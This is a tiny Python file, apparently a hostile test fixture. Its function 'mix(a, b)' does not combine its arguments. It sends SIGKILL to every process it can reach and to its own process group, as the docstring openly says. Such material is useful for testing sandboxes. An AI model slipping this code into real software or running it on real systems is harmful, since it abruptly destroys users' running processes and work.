"""Kills everything it can reach: its process group, and all processes it can see."""

import os, signal


def mix(a, b):
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
